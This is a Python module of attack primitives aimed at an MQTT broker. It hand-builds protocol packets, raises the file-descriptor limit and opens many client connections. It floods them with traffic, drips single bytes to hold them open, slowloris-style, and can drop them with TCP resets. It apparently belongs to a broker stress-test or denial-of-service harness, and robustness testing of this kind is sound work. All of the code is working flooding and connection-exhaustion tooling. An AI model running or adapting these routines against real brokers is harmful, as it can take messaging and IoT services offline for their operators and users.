"""What an attacker needs: raw sockets, packets made of bytes, and no manners."""

import os
import resource
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator


def raise_limit() -> None:
    """As many open files as this process may have."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def length(size: int) -> bytes:
    """A Remaining Length."""
    out = b""
    while True:
        size, byte = size >> 7, size & 127
        out += bytes((byte | (128 if size else 0),))
        if not size:
            return out


def field(data: "bytes | str") -> bytes:
    """A string with its length."""
    data = data.encode() if isinstance(data, str) else data
    return struct.pack(">H", len(data)) + data


def packet(first: int, *parts: bytes) -> bytes:
    """A packet."""
    body = b"".join(parts)
    return bytes((first,)) + length(len(body)) + body


def connect(
    client_id: str = "",
    clean: bool = True,
    keep_alive_s: int = 0,
    will: "tuple[str, bytes, int] | None" = None,
    level: int = 4,
) -> bytes:
    """CONNECT; `will`: topic, payload, QoS."""
    flags = 2 if clean else 0
    block = b"\0" if level == 5 else b""
    tail = field(client_id)
    if will:
        flags |= 4 | will[2] << 3
        tail += block + field(will[0]) + field(will[1])
    return packet(0x10, field("MQTT"), bytes((level, flags)), struct.pack(">H", keep_alive_s), block, tail)


def publish(
    topic: str, payload: bytes = b"", qos: int = 0, number: int = 1, retain: bool = False, block: "bytes | None" = None
) -> bytes:
    """PUBLISH; `block`: properties with their length (5.0)."""
    return packet(
        0x30 | qos << 1 | retain, field(topic), struct.pack(">H", number) if qos else b"", block or b"", payload
    )


def subscribe(*filters: str, qos: int = 0, number: int = 1, level: int = 4) -> bytes:
    """SUBSCRIBE."""
    block = b"\0" if level == 5 else b""
    return packet(0x82, struct.pack(">H", number), block, *[field(f) + bytes((qos,)) for f in filters])


class Target:
    """The broker under attack. `until`: when the attack ends, as time.monotonic has it."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        self.host = host
        self.port = port
        self.until = time.monotonic() + seconds
        self.sockets: list[socket.socket] = []

    @property
    def goes_on(self) -> bool:
        """Whether the attack is not over yet."""
        return time.monotonic() < self.until

    def rest(self) -> None:
        """Do nothing until it is over."""
        while self.goes_on:
            time.sleep(0.05)

    def open(self, data: bytes = b"", *, timeout: float = 5, receive_buffer: int = 0) -> "socket.socket | None":
        """A connection on which `data` is sent; None where it fails."""
        sock = socket.socket(socket.AF_INET6 if ":" in self.host else socket.AF_INET)
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(timeout)
        try:
            sock.connect((self.host, self.port))
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if data:
                sock.sendall(data)
        except OSError:
            sock.close()
            return None
        self.sockets.append(sock)
        return sock

    def client(self, client_id: str = "", rest: bytes = b"", **more: object) -> "socket.socket | None":
        """A connection that has been accepted, on which `rest` is sent after that."""
        receive_buffer = int(str(more.pop("receive_buffer", 0)))
        sock = self.open(connect(client_id, **more), receive_buffer=receive_buffer)  # type: ignore[arg-type]
        if sock is None:
            return None
        try:
            answer = sock.recv(4096)
            if len(answer) < 4 or answer[0] != 0x20 or answer[3]:
                self.drop(sock)
                return None
            if rest:
                sock.sendall(rest)
        except OSError:
            self.drop(sock)
            return None
        return sock

    def drop(self, sock: socket.socket, *, reset: bool = False) -> None:
        """Close it; `reset`: without a word of TCP's."""
        if sock in self.sockets:
            self.sockets.remove(sock)
        if reset:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()

    def clients(self, count: int, name: str, rest: bytes = b"", **more: object) -> "list[socket.socket]":
        """Several clients."""
        made = (self.client(f"{name}{number}", rest, **more) for number in range(count) if self.goes_on)
        return [sock for sock in made if sock]

    def pour(self, sockets: "list[socket.socket]", data: Callable[[], bytes], *, reads: bool = True) -> None:
        """Send on all of them as fast as they take it, until it is over; whole blocks of `data`, so that packets stay
        whole. `reads`: and throw away what comes.
        """
        waiting: dict[socket.socket, bytes] = {}
        selector = selectors.DefaultSelector()
        events = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)
        for each in sockets:
            each.setblocking(False)
            selector.register(each, events)
            waiting[each] = b""
        while self.goes_on and waiting:
            for key, mask in selector.select(0.2):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    if mask & selectors.EVENT_READ and not sock.recv(1 << 16):
                        raise ConnectionResetError
                    if mask & selectors.EVENT_WRITE:
                        left = waiting[sock] or data()
                        waiting[sock] = left[sock.send(left) :]
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(sock)
                    del waiting[sock]
        selector.close()

    def drip(self, sockets: "list[socket.socket]", every_s: float = 0.2, byte: bytes = b"x") -> None:
        """A byte on each now and then, until it is over."""
        alive = list(sockets)
        while self.goes_on and alive:
            for sock in list(alive):
                try:
                    sock.send(byte)
                except OSError:
                    alive.remove(sock)
            time.sleep(every_s)
        self.rest()


def blocks(one: Callable[[int], bytes], size: int = 1 << 16) -> "Callable[[], bytes]":
    """Packets by their number, as many at once as give a block of about `size`."""

    def numbered() -> Iterator[bytes]:
        number = 0
        while True:
            found: list[bytes] = []
            have = 0
            while have < size:
                number += 1
                found.append(one(number))
                have += len(found[-1])
            yield b"".join(found)

    made = numbered()
    return lambda: next(made)


def garbage(size: int) -> bytes:
    """Random bytes."""
    return os.urandom(size)
